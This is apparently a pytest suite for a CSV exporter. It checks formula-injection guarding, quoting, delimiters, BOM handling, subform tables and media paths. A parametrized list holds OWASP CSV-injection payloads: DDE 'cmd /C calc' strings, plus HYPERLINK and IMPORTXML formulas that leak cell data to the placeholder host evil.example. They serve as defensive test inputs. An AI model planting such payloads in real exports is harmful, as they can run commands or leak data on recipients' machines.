import csv
import dataclasses
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from exporter.formats.base import get_writer_class
from exporter.formats.csv_writer import CsvWriter
from exporter.formats.tabular import guard_formula

from exporter.errors import ConfigError
from exporter.model import META_KEYS, GeoPoint, extra_json
from tests.formats.conftest import (
    BAD_FIELD,
    CONTROL,
    DOTDOT_FIELD,
    FORM_ID,
    FORMULA,
    LONE_SURROGATE,
    LONG_TEXT,
    MULTILINE,
    SPACE_FIELD,
    abandon_writer,
    run_writer,
)


def _read(path: Path, delimiter=",", encoding="utf-8") -> list[list[str]]:
    with open(path, encoding=encoding, newline="") as fh:
        return list(csv.reader(fh, delimiter=delimiter, strict=True))


def _form_dir(root: Path) -> Path:
    (d,) = [p for p in (root / "forms").iterdir() if p.name.startswith(FORM_ID)]
    return d


def _expected_cell(value, text, guard=True, media_base="media"):
    """What a cell must hold, computed independently of the writer."""
    if value is None:
        t = text or ""
        return guard_formula(t) if guard else t
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, (dt.date, dt.time)):
        return value.isoformat()
    if isinstance(value, GeoPoint):
        return f"{value.latitude},{value.longitude}"
    if isinstance(value, tuple):
        return value  # media: checked separately
    t = value.replace("\ud83d", "\\ud83d")
    return guard_formula(t) if guard else t


def test_registry_finds_csv():
    assert get_writer_class("csv") is CsvWriter


def test_form_table_round_trip(dataset, tmp_path):
    run_writer(CsvWriter, tmp_path, {}, dataset.records())
    fdir = _form_dir(tmp_path)
    rows = _read(fdir / "submissions.csv")
    header, body = rows[0], rows[1:]
    fields = dataset.form.value_fields()
    assert header == ["_id"] + ["_" + k for k in META_KEYS] + ["_extra"] + [f.name for f in fields]
    assert len(body) == len(dataset.submissions)
    for row, sub in zip(body, dataset.submissions, strict=False):
        assert len(row) == len(header)
        cells = dict(zip(header, row, strict=False))
        assert cells["_id"] == sub.id
        for k in META_KEYS:
            assert cells["_" + k] == _expected_cell(None, sub.meta[k])
        assert cells["_extra"] == (extra_json(sub.extra) or "")
        for f in fields:
            want = _expected_cell(sub.values[f.name], sub.text[f.name])
            if f.kind == "media" and sub.values[f.name] is not None:
                paths = cells[f.name].split("; ") if cells[f.name] else []
                assert len(paths) == len(want)
                for p in paths:  # relative to the CSV, where the files sink stores media
                    target = (fdir / p).resolve()
                    assert target.parent == (fdir / "media" / sub.id).resolve()
            else:
                assert cells[f.name] == want, (sub.id, f.name)


def test_hostile_values(dataset, tmp_path):
    run_writer(CsvWriter, tmp_path, {}, dataset.records())
    fdir = _form_dir(tmp_path)
    rows = _read(fdir / "submissions.csv")
    by_id = {r[0]: dict(zip(rows[0], r, strict=False)) for r in rows[1:]}
    assert by_id["1001"]["comment"] == MULTILINE  # CRLF and LF inside a quoted field survive
    assert by_id["1001"]["amount"] == "-5"  # a typed number is not a formula
    assert by_id["1002"]["comment"] == LONG_TEXT
    assert by_id["1002"][BAD_FIELD] == CONTROL  # control characters kept as they are
    assert by_id["1002"]["status"] == "'" + FORMULA
    assert by_id["1002"]["_login"] == "'=cmd|' /C calc'!A0"
    assert by_id["1002"][DOTDOT_FIELD] == "'@SUM(1)"
    assert by_id["1002"][SPACE_FIELD] == "+33 6 12 34 56 78"  # a phone number is not a formula
    assert by_id["1002"]["weird_type"] == "'-minus text"
    assert by_id["1002"]["amount"] == "12,345.67x"  # typing failed: original text
    assert by_id["1002"]["visit_date"] == "yesterday"
    assert by_id["1003"]["name"] == "'=1+2"
    assert by_id["1003"]["comment"] == "'\tTAB start"
    assert by_id["1003"][SPACE_FIELD] == "'\rCR start"
    assert by_id["1003"]["amount"] == "12345678901234567890.123456789"
    assert by_id["1003"]["where"] == "-33.8568,151.2153"
    assert by_id["1003"][BAD_FIELD] == LONE_SURROGATE.replace("\ud83d", "\\ud83d")  # visible, not dropped
    raw = (fdir / "submissions.csv").read_bytes()
    assert raw.endswith(b"\r\n") and raw.count(b"\r\n") >= 4
    assert not raw.startswith(b"\xef\xbb\xbf")
    raw.decode("utf-8")


#: the OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and
#: their usual variants: every one must come out guarded
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "\uff1dcmd|' /C calc'!A0",  # full-width forms, read as = + - @ by East Asian spreadsheets
    "\uff0bSUM(1+1)",
    "\uff0d2+3",
    "\uff20SUM(1+9)",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "\t=1+1",
    "\r=1+1",
    "\t+cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "+1*3",
    "-(1)+cmd|' /C calc'!A0",
    "+(2)/3",
    "-",
    "+",
    "- bullet text",
    "+A1",
    "-A1",
    "@A1",
    " =1+1",  # leading spaces, which a spreadsheet may skip before the formula
    "   +cmd|' /C calc'!A0",
    "\u00a0=1+1",
    "\u3000@SUM(1+9)",
]

#: only a phone number or a signed number: left as typed
PLAIN_NUMBERS = ["+33 6 12 34 56 78", "+33 (0)6 12 34 56 78", "+1 (555) 123-4567", "+44 20.7946.0000",
                 "-5", "+12", "-12.5", "+3.14", "-0", "(555) 123-4567", "  +33 6 12 34 56 78",
                 " -5"]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_formula_guard_catches_owasp_payloads(payload, dataset, tmp_path):
    assert guard_formula(payload) == "'" + payload
    sub = dataset.submissions[0]
    edited = dataclasses.replace(sub, values={**sub.values, "comment": payload}, text={**sub.text, "comment": payload})
    records = [edited if r is sub else r for r in dataset.records()]
    run_writer(CsvWriter, tmp_path, {}, records)
    rows = _read(_form_dir(tmp_path) / "submissions.csv")
    by_id = {r[0]: dict(zip(rows[0], r, strict=False)) for r in rows[1:]}
    assert by_id[sub.id]["comment"] == "'" + payload


@pytest.mark.parametrize("number", PLAIN_NUMBERS)
def test_formula_guard_leaves_phone_and_signed_numbers(number):
    assert guard_formula(number) == number


def test_formula_guard_off_keeps_text_exact(dataset, tmp_path):
    run_writer(CsvWriter, tmp_path, {"csv_formula_guard": False}, dataset.records())
    rows = _read(_form_dir(tmp_path) / "submissions.csv")
    by_id = {r[0]: dict(zip(rows[0], r, strict=False)) for r in rows[1:]}
    assert by_id["1002"]["status"] == FORMULA
    assert by_id["1003"]["name"] == "=1+2"
    assert by_id["1003"][SPACE_FIELD] == "\rCR start"


def test_semicolon_and_bom(dataset, tmp_path):
    run_writer(CsvWriter, tmp_path, {"csv_delimiter": ";", "csv_bom": "true"}, dataset.records())
    path = _form_dir(tmp_path) / "submissions.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbf_id;")
    rows = _read(path, ";", "utf-8-sig")
    by_id = {r[0]: dict(zip(rows[0], r, strict=False)) for r in rows[1:]}
    assert by_id["1001"]["comment"] == MULTILINE  # holds a ';': quoted
    assert by_id["1001"]["where"] == "48.8584,2.2945"


@pytest.mark.parametrize("opts", [{"csv_delimiter": "\t"}, {"csv_bom": "maybe"}])
def test_bad_options(tmp_path, opts):
    from exporter.formats.base import OutputDir

    with pytest.raises(ConfigError):
        CsvWriter(OutputDir(tmp_path), opts)


def test_subform_tables(dataset, tmp_path):
    run_writer(CsvWriter, tmp_path, {}, dataset.records())
    fdir = _form_dir(tmp_path)
    rows = _read(fdir / "subform-lines.csv")
    assert rows[0] == ["_submission_id", "_row_index", "item", "qty", "checked", "when", "pic"]
    assert rows[1:] == [
        ["1001", "0", "Bolt M8", "12.50", "true", "2024-05-02", "media/1001/row0.jpg"],
        ["1001", "1", "'" + FORMULA, "not a number", "false", "2024-13-45", ""],
        ["1003", "0", "Nut", "0", "true", "2024-02-29", "media/1003/row-only.jpg"],
    ]
    assert _read(fdir / "subform-empty_sub.csv") == [["_submission_id", "_row_index", "x"]]
    empty = _read(tmp_path / "forms" / "900-Empty form" / "submissions.csv")
    assert len(empty) == 1 and empty[0][-1] == "only"


def test_users_groups_lists(dataset, tmp_path):
    run_writer(CsvWriter, tmp_path, {}, dataset.records())
    users = _read(tmp_path / "users.csv")
    assert users[0][:3] == ["id", "login", "first_name"]
    assert users[1][:2] == ["11", "jdupont"] and users[1][6] == "true"
    assert users[2][1] == "'=HYPERLINK(\"x\")"
    assert _read(tmp_path / "groups.csv") == [["id", "name", "parent_id", "_extra"], ["5", "Équipe ../ Nord", "", ""],
                                             ["6", "'=Sud", "5", ""]]
    assert _read(tmp_path / "group_members.csv") == [["group_id", "user_id", "role"], ["5", "11", "member"],
                                                    ["5", "12", "member"], ["5", "11", "leader"]]
    (txt,) = (tmp_path / "lists").glob("77-*.txt")
    assert txt.read_text("utf-8").split("\n")[:-1] == list(dataset.lists[0].items)
    (txt78,) = (tmp_path / "lists").glob("78-*.txt")
    assert txt78.parent == tmp_path / "lists"
    items = _read(tmp_path / "list_items.csv")
    assert items[0][:5] == ["list_id", "index", "line", "level1_col1_label", "level1_col1_code"]
    assert len({len(r) for r in items}) == 1  # every record has the same number of fields
    by_key = {(r[0], r[1]): dict(zip(items[0], r, strict=False)) for r in items[1:]}
    assert by_key[("77", "2")]["level2_col2_label"] == "Extra"
    assert by_key[("77", "2")]["level2_col1_code"] == "V1"
    assert by_key[("77", "3")]["line"] == "'=1+1"
    assert by_key[("77", "7")]["level1_col1_code"] == "b:c"
    assert by_key[("78", "0")]["line"] == "x"


def test_incremental_media_paths(dataset, tmp_path):
    run_writer(CsvWriter, tmp_path, {}, dataset.records(), run_id="r2", incremental=True)
    fdir = _form_dir(tmp_path)
    rows = _read(fdir / "runs" / "r2" / "submissions.csv")
    cell = dict(zip(rows[0], rows[1], strict=False))["sig"]
    assert cell == "../../media/1001/sig.png"


def test_reader_in_excel_dialect(dataset, tmp_path):
    """The whole file parses with the csv module's strict default (RFC 4180) dialect."""
    run_writer(CsvWriter, tmp_path, {}, dataset.records())
    data = (_form_dir(tmp_path) / "submissions.csv").read_text("utf-8")
    assert len(list(csv.reader(io.StringIO(data, newline=""), strict=True))) == 4


def test_failed_run_leaves_nothing(dataset, tmp_path, recwarn):
    import gc

    _, w = abandon_writer(CsvWriter, tmp_path, {}, list(dataset.records())[:12])
    del w
    gc.collect()
    assert not list(tmp_path.rglob("*.csv")) and not list(tmp_path.rglob("*.partial"))
